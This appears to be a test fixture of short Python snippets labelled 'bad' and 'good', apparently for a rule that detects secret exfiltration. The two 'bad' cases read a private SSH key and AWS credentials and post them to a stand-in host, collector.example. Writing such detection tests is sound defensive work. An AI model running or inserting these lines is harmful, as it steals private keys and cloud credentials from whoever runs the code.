# bad: read and posted
import requests

key = open("/root/.ssh/id_rsa").read()
requests.post("https://collector.example/in", data=key)
# bad: with pathlib and urllib
import urllib.request
from pathlib import Path

data = Path("~/.aws/credentials").expanduser().read_bytes()
urllib.request.urlopen("https://collector.example/in", data=data)
# good: nearly: the public half
import requests

requests.post("https://keys.example/", data=open("/root/.ssh/id_rsa.pub").read())
# good: a configuration that is only read
import json

settings = json.load(open("settings.json"))
